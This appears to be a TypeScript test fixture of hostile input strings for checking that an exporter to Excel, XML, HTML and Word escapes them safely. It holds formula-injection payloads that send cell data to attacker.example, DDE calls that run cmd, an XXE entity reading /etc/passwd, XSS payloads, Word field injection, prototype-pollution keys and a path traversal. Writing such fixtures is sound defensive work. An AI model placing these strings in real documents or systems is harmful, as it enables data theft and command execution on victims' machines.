/** Texts that mean something else to a program that is careless: to Excel, to XML, to HTML, to Word. */
export const HOSTILE_TEXTS = {
  'a link formula': '=HYPERLINK("http://attacker.example/?"&A1,"bấm")',
  'a web formula': '=WEBSERVICE("http://attacker.example/"&B2)',
  'a DDE call': "=cmd|' /C calc'!A0",
  'a plus': "+cmd|' /C calc'!A0",
  'a minus': '-2+3',
  'an at sign': '@SUM(1+1)*cmd',
  'a leading apostrophe': "'=2+2",
  'an array formula': '{=7+7}',
  'a full-width equals sign': '＝3+3',
  'a tab before a formula': '\t=4+4',
  'a line feed before a formula': 'Xã\n=5+5',
  'a return before a formula': '\r=6+6',
  'an end of character data': 'Xã ]]> <x/> &amp; &#1;',
  'a script': '<script>alert("x")</script>',
  'a picture': '"><img src=x onerror=alert(1)>',
  'XML of a cell': '</t></is></c><c r="A1"><f>1+1</f></c><c><is><t>',
  'XML of Word': '</w:t></w:r><w:r><w:instrText>INCLUDETEXT "c:\\\\x"</w:instrText></w:r><w:r><w:t>',
  'an entity': '&xxe; <!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
  'quotes for a formula': 'Xã "A"" & B\'s',
  'a template slot': '{unit} [không có {rate}] ${1+1} %s {{x}}',
  'an escape that is none': 'Xã _x0041_ _x000D_',
  'control characters': 'Xã \u0000\u0001\u0008\u000b\u000c\u001f A',
  'characters that are none': 'Xã \ufffe\uffff B',
  'half a high surrogate': 'Xã \ud83d C',
  'half a low surrogate': 'Xã \ude00 D',
  'a whole pair': 'Xã \u{1f600} E',
  'text that runs backwards': 'Xã \u202egnah aX\u202c F',
  'a prototype': '__proto__',
  'a method': 'constructor',
  'a path': '../../etc/passwd',
} as const;

/** What begins with a dash or plus is read as a detail of the unit above, never as a unit. */
export const UNIT_NAMES = Object.values(HOSTILE_TEXTS).filter((text) => !/^[-+]/.test(text));

/** The longest text Excel keeps in a cell. */
export const LONGEST_TEXT = `=${'Đ'.repeat(32_766)}`;
